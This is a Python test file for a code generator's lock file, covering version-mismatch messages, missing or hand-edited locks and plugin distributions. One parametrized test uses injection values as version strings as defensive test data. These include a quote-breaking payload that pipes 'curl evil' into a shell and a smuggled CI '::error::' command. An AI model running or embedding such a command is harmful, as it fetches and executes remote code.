"""`orlgen.lock`: the versions that generated a directory's files (orlgen.render.lock).

`generate` writes it beside the files it renders; `check` reads it before rendering anything and,
when it records other versions than are installed, says so in one line with what to install,
instead of reporting every file as stale. The mismatches below are faults injected into our own
file (a recorded version edited), the way a checkout made on another machine reads here.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from orlgen import __version__
from orlgen.render import header, lock

from tests.support.cli import invoke

REPO = Path(__file__).resolve().parent.parent
GENERATED = REPO / "generated"


@pytest.fixture
def gen(tmp_path: Path) -> Path:
    """A private copy of the checked-in `generated/` directory (the repository's config applies)."""
    return Path(shutil.copytree(GENERATED, tmp_path / "generated", ignore=shutil.ignore_patterns("__pycache__")))


def record(gen: Path, key: str, version: str) -> None:
    """Fault injection on our own file: the lock says `key` was at `version`."""
    path = gen / lock.NAME
    lines = path.read_text().splitlines(keepends=True)
    found = [index for index, line in enumerate(lines) if line.startswith(f"{key} = ")]
    assert len(found) == 1, key
    lines[found[0]] = f'{key} = "{version}"\n'
    path.write_text("".join(lines))


def test_the_checked_in_lock_is_what_generate_writes_here():
    """The repository's config lists no plugin: its lock names orlgen's version (read from
    `orlgen.__version__`, so a version bump is one `orlgen generate`) and the two tools."""
    written = (GENERATED / lock.NAME).read_text()
    assert written == lock.written()
    assert f'orlgen = "{__version__}"' in written.splitlines() and "[plugins]" not in written
    assert lock.read(GENERATED / lock.NAME) == lock.installed()


@pytest.mark.parametrize(
    ("key", "installs"),
    [
        ("black", "'black=={v}'"),
        ("datamodel-code-generator", "'datamodel-code-generator=={v}'"),
        ("orlgen", "'orlgen[generate]=={v}'"),
    ],
)
def test_other_installed_versions_are_one_line_naming_what_to_install(gen: Path, key: str, installs: str):
    record(gen, key, "0.0.1")
    installed = {"orlgen": __version__, **header.tool_versions()}[key]
    result = invoke("check", "--no-cache", gen)
    assert result.exit_code == 2 and result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert line == (
        f"orlgen: error: {gen / lock.NAME}: generated with {key} 0.0.1; installed here: {key} {installed}. "
        f"To check these files, pip install {installs.format(v='0.0.1')}; or run `orlgen generate` to "
        "regenerate them with the installed versions"
    )


def test_two_differences_are_still_one_line(gen: Path):
    record(gen, "black", "1.0")
    record(gen, "orlgen", "0.0.9")
    result = invoke("check", "--no-cache", gen)
    (line,) = result.stderr.splitlines()
    assert result.exit_code == 2 and "generated with orlgen 0.0.9, black 1.0;" in line
    assert "pip install 'orlgen[generate]==0.0.9' 'black==1.0';" in line


def test_a_recorded_plugin_not_installed_names_its_distribution(gen: Path):
    path = gen / lock.NAME
    path.write_text(
        path.read_text() + '\n[plugins]\necho = { distribution = "orlgen-echo-trainer", version = "0.1.0" }\n'
    )
    result = invoke("check", "--no-cache", gen)
    (line,) = result.stderr.splitlines()
    assert result.exit_code == 2
    assert (
        "generated with trainer plugin echo (orlgen-echo-trainer 0.1.0); installed here: no trainer plugin echo" in line
    )
    assert "pip install 'orlgen-echo-trainer==0.1.0'" in line


def test_generate_moves_the_lock_to_the_installed_versions(gen: Path):
    record(gen, "black", "1.0")
    result = invoke("generate", "--no-cache", gen)
    assert result.exit_code == 0, result.output
    assert f"wrote {gen / lock.NAME}" in result.stdout.splitlines()
    assert (gen / lock.NAME).read_bytes() == (GENERATED / lock.NAME).read_bytes()
    assert invoke("check", gen).exit_code == 0


def test_a_missing_or_hand_edited_lock_is_a_finding_generate_repairs(gen: Path):
    (gen / lock.NAME).unlink()
    result = invoke("check", "--no-cache", gen)
    assert result.exit_code == 1 and f"{gen / lock.NAME}: missing: run `orlgen generate`" in result.stdout

    (gen / lock.NAME).write_text(lock.written() + "extra = 1\n")  # same versions, a line orlgen does not write
    result = invoke("check", "--no-cache", gen)
    assert result.exit_code == 1
    assert f"{gen / lock.NAME}: not what orlgen writes for this project" in result.stdout
    assert invoke("generate", "--no-cache", gen).exit_code == 0
    assert (gen / lock.NAME).read_bytes() == (GENERATED / lock.NAME).read_bytes()


def test_an_unreadable_lock_is_reported_not_trusted(gen: Path):
    """A lock that does not parse cannot excuse anything: check compares it as a file."""
    (gen / lock.NAME).write_text(lock.written().replace("[generator]", "[generator"))
    result = invoke("check", "--no-cache", gen)
    assert result.exit_code == 1 and f"{gen / lock.NAME}: not what orlgen writes" in result.stdout


@pytest.mark.parametrize("version", ["0.3.0\\n::error::injected", "26.10.1'; curl evil | sh; echo '", "1.0 2.0", ""])
def test_a_lock_whose_words_are_no_versions_is_not_read(gen: Path, version: str):
    """A lock is repository data: a version that could break out of the `pip install '...'` line
    or start a CI workflow command is not read. check reports the file as hand-edited (its diff
    quotes the line as written, escaped), and says nothing to install."""
    record(gen, "black", version)
    result = invoke("check", "--no-cache", gen)
    assert result.exit_code == 1 and f"{gen / lock.NAME}: not what orlgen writes" in result.stdout
    assert "pip install" not in result.output
    assert not [line for line in result.output.splitlines() if line.startswith("::")]


def test_a_plugin_the_config_names_and_this_machine_lacks_says_what_to_install(tmp_path: Path):
    """The config lists a plugin that is not installed here; the lock names its distribution."""
    (tmp_path / "pyproject.toml").write_text("[tool.orlgen]\ntrainers = ['trl', 'echo']\n")
    (tmp_path / "generated").mkdir()
    recorded = lock.Versions(lock.installed().tools, {"echo": ("orlgen-echo-trainer", "0.1.0")})
    (tmp_path / "generated" / lock.NAME).write_text(lock.text(recorded))
    result = invoke("check", tmp_path / "generated")
    assert result.exit_code == 2
    assert result.stderr == (
        f"orlgen: error: {tmp_path / 'pyproject.toml'}: [tool.orlgen] trainers.1: unknown trainer 'echo': expected "
        "one of trl, verifiers, skyrl, agent, verl; orlgen.lock records it as a plugin: "
        "pip install 'orlgen-echo-trainer==0.1.0'\n"
    )
